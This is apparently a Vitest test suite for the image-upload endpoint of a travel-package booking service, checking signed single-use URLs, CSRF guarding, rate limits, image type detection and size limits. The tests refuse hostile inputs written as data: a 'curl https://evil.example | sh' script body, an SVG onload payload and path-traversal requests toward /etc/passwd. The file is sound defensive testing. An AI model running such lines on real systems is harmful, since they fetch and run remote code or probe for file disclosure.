import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { MAX_IMAGE_BYTES, PACKAGE_MESSAGES } from '../../rules/packages.js';
import { CREATE, UPDATE, agentHelpers, umrahInput } from '../../test/agent-helpers.js';
import { useTestApp } from '../../test/app.js';
import { makePng } from '../../test/png.js';
import { UPLOAD_MESSAGES } from './uploads.service.js';

const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'sf-uploads-'));
const t = useTestApp({ env: { DATA_DIR: dataDir } });
const { signUp, gql, sql } = agentHelpers(t);
const NOW = new Date('2026-11-22T10:00:00Z');
beforeAll(() => {
  t.clock.now = NOW;
});

// the spec's client: POST with a JSON content type and no body
const ask = (cookie?: string, headers: Record<string, string> = { 'content-type': 'application/json' }) =>
  t.app.inject({ method: 'POST', url: '/api/objects/upload', headers: { ...headers, ...(cookie ? { cookie } : {}) } });

async function uploadUrl(cookie: string): Promise<string> {
  const res = await ask(cookie);
  expect(res.statusCode, res.body).toBe(200);
  return res.json().uploadURL as string;
}

const put = (uploadURL: string, body: Buffer | string, contentType = 'image/png', headers: Record<string, string> = {}) =>
  t.app.inject({ method: 'PUT', url: new URL(uploadURL).pathname, payload: body, headers: { 'content-type': contentType, ...headers } });

async function upload(cookie: string, body: Buffer = makePng(4, 3)): Promise<string> {
  const res = await put(await uploadUrl(cookie), body);
  expect(res.statusCode, res.body).toBe(201);
  return res.json().url as string;
}

describe('POST /api/objects/upload', () => {
  it('gives signed-in agents a single-use URL bound to them, valid 15 minutes; 401 signed out, 403 travellers', async () => {
    const agent = await signUp();
    const res = await ask(agent.cookie);
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.uploadURL).toMatch(/^http:\/\/localhost(:\d+)?\/api\/objects\/upload\/[A-Za-z0-9_-]{43}$/);
    expect(new Date(body.expiresAt).getTime() - NOW.getTime()).toBe(15 * 60 * 1000);
    expect(body.maxBytes).toBe(5242880);
    const token = body.uploadURL.split('/').pop();
    // only a hash of the token is stored, with its owner
    const [ticket] = await sql('select token_hash, user_id from upload_ticket where user_id = ?', [agent.id]);
    expect(ticket.token_hash).toMatch(/^[0-9a-f]{64}$/);
    expect(ticket.token_hash).not.toContain(token);

    expect((await ask()).statusCode).toBe(401);
    const traveller = await signUp('end_user');
    expect((await ask(traveller.cookie)).json()).toMatchObject({ code: 'FORBIDDEN' });
    const admin = await signUp('super_admin');
    expect((await ask(admin.cookie)).statusCode).toBe(200);
  });

  it('is a cookie-authenticated write: without a JSON content type the CSRF guard refuses it', async () => {
    const agent = await signUp();
    const res = await ask(agent.cookie, { 'content-type': 'text/plain' });
    expect(res.statusCode).toBe(403);
    expect(res.json().message).toMatch(/Cross-site request refused/);
    const noType = await ask(agent.cookie, {});
    expect(noType.statusCode).toBe(403);
  });

  it('limits the unused URLs one person may hold (429)', async () => {
    const agent = await signUp();
    for (let i = 0; i < 20; i++) expect((await ask(agent.cookie)).statusCode).toBe(200);
    const res = await ask(agent.cookie);
    expect(res.statusCode).toBe(429);
    expect(res.headers['retry-after']).toBeDefined();
  });

  it('holds the limit when 60 requests arrive at once: exactly 20 URLs are issued', async () => {
    const agent = await signUp();
    const results = await Promise.all(Array.from({ length: 60 }, () => ask(agent.cookie)));
    const codes = results.map((r) => r.statusCode);
    expect(codes.filter((c) => c === 200)).toHaveLength(20);
    expect(codes.filter((c) => c === 429)).toHaveLength(40);
    expect(results.find((r) => r.statusCode === 429)?.json().message).toBe('Too many unused upload URLs: use them or wait for them to expire');
    const [{ n }] = await sql<{ n: number }>('select count(*)::int as n from upload_ticket where user_id = ?', [agent.id]);
    expect(n).toBe(20);
  });
});

describe('PUT to the upload URL', () => {
  it('stores a PNG (no cookie needed: the CSRF guard lets the token-authorised PUT through) and serves it cacheable', async () => {
    const agent = await signUp();
    const png = makePng(8, 5);
    // sent with a session cookie and an image type, exactly what the guard refuses on other /api writes
    const res = await put(await uploadUrl(agent.cookie), png, 'image/png', { cookie: agent.cookie });
    expect(res.statusCode).toBe(201);
    const { url, contentType, size } = res.json();
    expect(url).toMatch(/^\/media\/uploads\/[0-9a-f-]{36}\.png$/);
    expect({ contentType, size }).toEqual({ contentType: 'image/png', size: png.length });
    expect(fs.readFileSync(path.join(dataDir, 'uploads', path.basename(url)))).toEqual(png);

    const served = await t.app.inject({ url });
    expect(served.statusCode).toBe(200);
    expect(served.rawPayload).toEqual(png);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect((await t.app.inject({ url: '/media/uploads/00000000-0000-4000-8000-000000000000.png' })).statusCode).toBe(404);
    // an encoded slash is refused before any route (security/request-path.ts)
    expect((await t.app.inject({ url: '/media/uploads/..%2F..%2Fetc%2Fpasswd' })).statusCode).toBe(400);
  });

  it('detects JPEG, WebP and GIF by their bytes, whatever type was declared', async () => {
    const agent = await signUp();
    const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(64, 1)]);
    const webp = Buffer.concat([Buffer.from('RIFF'), Buffer.from([40, 0, 0, 0]), Buffer.from('WEBPVP8 '), Buffer.alloc(32)]);
    const gif = Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(20)]);
    for (const [body, ext] of [
      [jpeg, 'jpg'],
      [webp, 'webp'],
      [gif, 'gif'],
    ] as const) {
      const res = await put(await uploadUrl(agent.cookie), body, 'image/png');
      expect(res.json().url).toMatch(new RegExp(`\\.${ext}$`));
      expect((await t.app.inject({ url: res.json().url })).headers['content-type']).toBe(`image/${ext === 'jpg' ? 'jpeg' : ext}`);
    }
  });

  it('refuses a script renamed .jpg (415) and leaves the URL usable', async () => {
    const agent = await signUp();
    const uploadURL = await uploadUrl(agent.cookie);
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const res = await put(uploadURL, script, 'image/jpeg');
    expect(res.statusCode).toBe(415);
    expect(res.json()).toEqual({ message: PACKAGE_MESSAGES.notAnImage, code: 'UNSUPPORTED_MEDIA_TYPE' });
    const html = await put(uploadURL, '<svg onload="alert(1)"></svg>', 'image/gif');
    expect(html.statusCode).toBe(415);
    expect((await put(uploadURL, makePng(2, 2))).statusCode).toBe(201);
  });

  it('refuses non-image content types before reading the body', async () => {
    const agent = await signUp();
    const uploadURL = await uploadUrl(agent.cookie);
    for (const type of ['application/octet-stream', 'text/html', 'application/json', 'image/svg+xml']) {
      const res = await put(uploadURL, makePng(2, 2), type);
      expect(res.statusCode, type).toBe(415);
      expect(res.json().message).toBe(UPLOAD_MESSAGES.contentType);
    }
  });

  it('takes 5242880 bytes and answers one byte more with 413', async () => {
    const agent = await signUp();
    const png = makePng(2, 2);
    const exact = Buffer.concat([png, Buffer.alloc(MAX_IMAGE_BYTES - png.length)]);
    expect(exact.length).toBe(5242880);
    expect((await put(await uploadUrl(agent.cookie), exact)).statusCode).toBe(201);
    const uploadURL = await uploadUrl(agent.cookie);
    const over = await put(uploadURL, Buffer.concat([exact, Buffer.alloc(1)]));
    expect(over.statusCode).toBe(413);
    expect(over.json()).toEqual({ message: 'Each image must be at most 5 MB', code: 'PAYLOAD_TOO_LARGE' });
    // the URL was not spent on the refused body
    expect((await put(uploadURL, png)).statusCode).toBe(201);
  });

  it('refuses a reused URL (410), an expired one (410) and an unknown one (404)', async () => {
    const agent = await signUp();
    const uploadURL = await uploadUrl(agent.cookie);
    expect((await put(uploadURL, makePng(2, 2))).statusCode).toBe(201);
    const again = await put(uploadURL, makePng(2, 2));
    expect(again.statusCode).toBe(410);
    expect(again.json()).toEqual({ message: UPLOAD_MESSAGES.used, code: 'GONE' });

    const late = await uploadUrl(agent.cookie);
    t.clock.now = new Date(NOW.getTime() + 15 * 60 * 1000 + 1);
    try {
      const expired = await put(late, makePng(2, 2));
      expect(expired.statusCode).toBe(410);
      expect(expired.json().message).toBe(UPLOAD_MESSAGES.expired);
    } finally {
      t.clock.now = NOW;
    }
    const unknown = await put(`http://localhost/api/objects/upload/${'A'.repeat(43)}`, makePng(2, 2));
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json().message).toBe(UPLOAD_MESSAGES.unknown);
    expect((await put('http://localhost/api/objects/upload/short', makePng(2, 2))).statusCode).toBe(404);
  });

  it('two PUTs racing on one URL store exactly one image', async () => {
    const agent = await signUp();
    const uploadURL = await uploadUrl(agent.cookie);
    const results = await Promise.all([1, 2, 3, 4].map(() => put(uploadURL, makePng(3, 3))));
    expect(results.map((r) => r.statusCode).sort()).toEqual([201, 410, 410, 410]);
  });

  it('the CSRF exemption is only for PUT to an upload URL', async () => {
    const agent = await signUp();
    const uploadURL = await uploadUrl(agent.cookie);
    const { pathname } = new URL(uploadURL);
    const post = await t.app.inject({ method: 'POST', url: pathname, payload: makePng(2, 2), headers: { 'content-type': 'image/png', cookie: agent.cookie } });
    expect(post.statusCode).toBe(403);
    const sneaky = await t.app.inject({ method: 'PUT', url: `${pathname}/../../../bookings`, payload: 'x', headers: { 'content-type': 'text/plain', cookie: agent.cookie } });
    expect(sneaky.statusCode).toBe(403);
  });
});

describe('package images', () => {
  it('keeps up to 5 uploaded images, the first is imageUrl; a 6th is refused', async () => {
    const agent = await signUp();
    const urls = [];
    for (let i = 0; i < 6; i++) urls.push(await upload(agent.cookie, makePng(2 + i, 2)));
    const six = await gql(CREATE, { input: umrahInput({ images: urls }) }, agent.cookie);
    expect(six.errors?.[0]).toMatchObject({ message: 'A package can have at most 5 images', extensions: { code: 'BAD_USER_INPUT', field: 'images' } });

    const res = await gql(CREATE, { input: umrahInput({ images: urls.slice(0, 5) }) }, agent.cookie);
    expect(res.errors).toBeUndefined();
    const pkg = res.data?.createPackage;
    expect(pkg.images).toEqual(urls.slice(0, 5));
    expect(pkg.imageUrl).toBe(urls[0]);
    // the public list shows the uploaded image
    const listed = ((await t.app.inject({ url: '/api/packages?type=umrah&limit=100' })).json() as Array<{ id: string; imageUrl: string }>).find((p) => p.id === pkg.id);
    expect(listed?.imageUrl).toBe(urls[0]);

    const sixth = await gql(UPDATE, { id: pkg.id, input: { images: urls } }, agent.cookie);
    expect(sixth.errors?.[0].message).toBe('A package can have at most 5 images');
    const reordered = await gql(UPDATE, { id: pkg.id, input: { images: [urls[5], urls[1]] } }, agent.cookie);
    expect(reordered.data?.updatePackage).toMatchObject({ images: [urls[5], urls[1]], imageUrl: urls[5] });
    const none = await gql(UPDATE, { id: pkg.id, input: { images: [] } }, agent.cookie);
    expect(none.data?.updatePackage.imageUrl).toMatch(/^\/media\/art\/package\//);
  });

  it('an agent cannot attach another agent’s upload, nor a URL nothing was uploaded to', async () => {
    const a = await signUp();
    const b = await signUp();
    const theirs = await upload(b.cookie);
    const refused = await gql(CREATE, { input: umrahInput({ images: [theirs] }) }, a.cookie);
    expect(refused.errors?.[0].message).toBe('Images must be uploaded with the image uploader');
    const invented = await gql(CREATE, { input: umrahInput({ images: ['/media/uploads/00000000-0000-4000-8000-000000000000.png'] }) }, a.cookie);
    expect(invented.errors?.[0].message).toBe('Images must be uploaded with the image uploader');
    // the super admin may use any stored upload
    const admin = await signUp('super_admin');
    expect((await gql(CREATE, { input: umrahInput({ images: [theirs] }) }, admin.cookie)).errors).toBeUndefined();
  });
});
